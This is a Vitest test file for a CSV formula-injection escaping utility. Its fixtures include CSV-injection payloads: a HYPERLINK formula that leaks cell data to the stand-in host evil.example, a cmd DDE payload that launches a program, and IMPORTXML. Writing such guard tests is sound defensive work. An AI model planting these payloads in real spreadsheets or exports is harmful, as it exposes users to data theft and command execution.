import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { escapeCsvCell, escapeTable, isFormulaLike } from './csvEscape';

describe('CSV injection guard (OWASP)', () => {
  it.each([
    ['=1+2', "'=1+2"],
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ['@SUM(1,2)', "'@SUM(1,2)"],
    ['\t=1+2', "'\t=1+2"],
    ['\r=1+2', "'\r=1+2"],
    ['-', "'-"],
    ['- a bullet', "'- a bullet"],
    ['-3.2x', "'-3.2x"],
    ['+', "'+"],
    ['-1e5e5', "'-1e5e5"],
  ])('prefixes %j with a quote', (cell, escaped) => {
    expect(isFormulaLike(cell)).toBe(true);
    expect(escapeCsvCell(cell)).toBe(escaped);
  });

  it.each(['-3.2', '+3.2', '-0', '-.5', '-5.', '-1e-12', '+2E+7', '-5e21', '-Infinity', '+Infinity', 'Infinity', '42', '', 'model a', "it's", 'a=b', 'x-1', ' =1'])(
    'leaves %j as it is',
    (cell) => {
      expect(isFormulaLike(cell)).toBe(false);
      expect(escapeCsvCell(cell)).toBe(cell);
    },
  );

  it('escapes headers and cells of a table, and nothing when raw', () => {
    const fields = ['=name', 'cost'];
    const data = [
      ['@x', '-3.2'],
      ['ok', '+1'],
    ];
    expect(escapeTable(fields, data)).toEqual({ fields: ["'=name", 'cost'], data: [["'@x", '-3.2'], ['ok', '+1']] });
    expect(escapeTable(fields, data, { raw: true })).toEqual({ fields, data });
    // The input is not mutated.
    expect(data[0][0]).toBe('@x');
  });

  it('survives CSV quoting: an escaped cell with commas and quotes reads back with its prefix', () => {
    const { fields, data } = escapeTable(['g'], [['=IMPORTXML("a,b")']]);
    const csv = Papa.unparse({ fields, data });
    expect(Papa.parse<string[]>(csv).data[1][0]).toBe('\'=IMPORTXML("a,b")');
  });
});
